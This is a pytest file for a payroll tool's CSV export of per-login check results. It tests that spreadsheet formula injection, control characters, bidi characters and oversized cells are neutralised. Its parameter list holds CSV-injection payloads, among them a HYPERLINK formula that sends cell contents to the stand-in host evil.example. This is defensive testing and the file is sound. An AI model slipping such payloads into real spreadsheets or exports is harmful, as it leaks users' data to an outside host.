"""The per-login rows and their CSV export: words stay words in a spreadsheet, and a login the
check never reached is "could not run"."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from wizard.core.check_result import CheckReport, CheckRun, Verdict
from wizard.core.login_check_summary import (
    LoginOutcome,
    LoginSummary,
    not_run,
    outcome_of,
    summaries_csv,
    summarize,
)
from wizard.core.model import AccountType, Employer, Package, WizardState


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "+31 20 123",
        "-2+3",
        "@SUM(A1:A2)",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u200f=1+1",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_formula_starts_are_neutralised(hostile):
    row = LoginSummary(hostile, hostile, LoginOutcome.COULD_NOT_RUN, reason=hostile)
    cells = _cells(summaries_csv([row]))[1]
    for cell in (cells[0], cells[1], cells[6]):
        assert cell.startswith("'"), cell


def test_control_and_bidi_characters_and_huge_cells_are_plain_text():
    name = "Bakkerij\u202e.V.B\x1b[31m\nrood" + "x" * 50_000
    row = LoginSummary("bakkerij@example.nl", name, LoginOutcome.ALL_GOOD)
    cells = _cells(summaries_csv([row]))
    assert len(cells) == 2  # one line per login, whatever the name holds
    label = cells[1][1]
    assert "\u202e" not in label and "\x1b" not in label and "\n" not in label
    assert len(label) <= 2_000


def test_ordinary_values_are_unchanged():
    row = LoginSummary("goed@example.nl", "Goed B.V.", LoginOutcome.ALL_GOOD)
    assert _cells(summaries_csv([row]))[1][:3] == ["goed@example.nl", "Goed B.V.", "alles_in_orde"]


def test_a_login_not_reached_is_could_not_run_not_no_token():
    state = WizardState(package=Package.NMBRS, account_type=AccountType.PER_DEBTOR)
    state.employers = [Employer("A", "a@example.nl", "token-a-0123456789", "a")]
    row = not_run(state, "a@example.nl", "A")
    assert row.outcome is LoginOutcome.COULD_NOT_RUN and row.fix is None


def test_a_check_that_could_not_run_is_never_missing_calls():
    report = CheckReport(package=Package.NMBRS, error="Geen verbinding met Nmbrs.")
    assert report.verdict is Verdict.NOT_RUN
    assert outcome_of(report) is LoginOutcome.COULD_NOT_RUN
    state = WizardState(package=Package.NMBRS, account_type=AccountType.UMBRELLA)
    run = CheckRun("a@example.nl", report, datetime.now().astimezone())
    summary = summarize(state, "a@example.nl", "A", run)
    assert summary is not None and summary.missing_calls == () and summary.fix is None
